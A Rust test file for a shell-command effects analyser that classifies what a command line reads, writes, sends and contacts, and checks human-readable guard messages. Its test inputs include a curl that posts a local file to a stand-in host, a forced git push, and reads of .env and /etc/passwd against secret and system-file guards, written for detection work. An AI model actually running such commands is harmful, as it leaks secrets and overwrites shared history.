use super::{actions, compiled, guard};
use crate::effects::{Predicate, write_view};

fn view(line: &str) -> serde_json::Value {
    let mut json = String::new();
    write_view(&actions(line), &mut json);
    let value: serde_json::Value = serde_json::from_str(&json).unwrap();
    // Members are sorted, as canonical JSON has them.
    assert_eq!(value.to_string(), json);
    value
}

#[test]
fn objects_by_kind() {
    let seen = view(
        "cat x x \"$F\" > y; git -C . push -f origin HEAD:main; curl -d @k https://h.example; printenv T",
    );
    let texts = |name: &str| {
        seen[name].as_array().unwrap().iter().map(|text| text.as_str().unwrap()).collect::<Vec<_>>()
    };
    assert_eq!(texts("reads"), ["$F", "/srv/app/x", "env:F", "/srv/app/k", "env:T"]);
    assert_eq!(texts("writes"), ["/srv/app/y"]);
    assert_eq!(texts("pushes"), ["origin:main"]);
    assert!(texts("sends").contains(&"/srv/app/k") && texts("contacts").contains(&"h.example"), "{seen}");
    let runs = seen["runs"].as_array().unwrap();
    assert_eq!(runs[1]["sub"], "push");
    assert_eq!(runs[1]["words"][2], ".");
    let unknown = seen["all"].as_array().unwrap().iter().find(|effect| effect["known"] == false).unwrap();
    assert_eq!(
        (&unknown["object"], &unknown["by"], &unknown["command"]),
        (&"$F".into(), &"cat".into(), &0.into())
    );
    assert_eq!((&seen["unknown"], &seen["declared"]), (&serde_json::Value::Null, &true.into()));
    assert!(view("$X")["unknown"].is_string());
}

#[test]
fn a_view_beyond_the_limit_has_no_effects() {
    let long = "d".repeat(4_000);
    let line = format!("cd /{long} && touch {}", (0..600).map(|n| format!("{n} ")).collect::<String>());
    let seen = view(&line);
    assert_eq!(seen["writes"], serde_json::json!([]));
    assert_eq!(seen["unknown"], "it does more than the limits allow");
}

#[test]
fn sentences() {
    let reads = |of: &[&str], except: &[&str]| Predicate::Guard(guard("reads", of, except));
    for (predicate, line, expected) in [
        (reads(&["@secrets"], &[]), "cat .env", "cat reads ./.env, which is in @secrets"),
        (reads(&["/etc/**"], &[]), "cat /etc/passwd", "cat reads /etc/passwd, which matches `/etc/**`"),
        (reads(&["*.pem"], &[]), "cat 'a b.pem'", "cat reads ./a b.pem, which matches `*.pem`"),
        (reads(&[], &[]), "cat x", "cat reads ./x"),
        (
            Predicate::Guard(guard("may_read", &["x"], &[])),
            "$X",
            "the command line does not say which program starts",
        ),
        (
            Predicate::Guard(guard("may_write", &[".env"], &[])),
            "tee a$X",
            "tee writes ./a{$X}, which may match `.env`",
        ),
        (
            Predicate::Guard(guard("may_read", &["@secrets"], &[])),
            "cat .env",
            "cat reads ./.env, which is in @secrets",
        ),
        (Predicate::Only(Vec::new()), "make a", "`make a` is not listed"),
        (
            Predicate::Guard(guard("runs", &["git push -f"], &[])),
            "git push --force",
            "it runs `git push --force`, which matches `git push -f`",
        ),
        // What misleads a reader is shown, and long texts are cut.
        (reads(&[], &[]), "cat $'a\\e[31m\\nb'", "cat reads ./a\u{241b}[31m\u{240a}b"),
    ] {
        assert_eq!(compiled(&predicate, &[]).sentence(&actions(line)), expected, "{line}");
    }
    let long = compiled(&reads(&[], &[]), &[]).sentence(&actions(&format!("cat {}", "x".repeat(9_000))));
    assert!(long.ends_with("...") && long.len() < 200, "{long}");
}
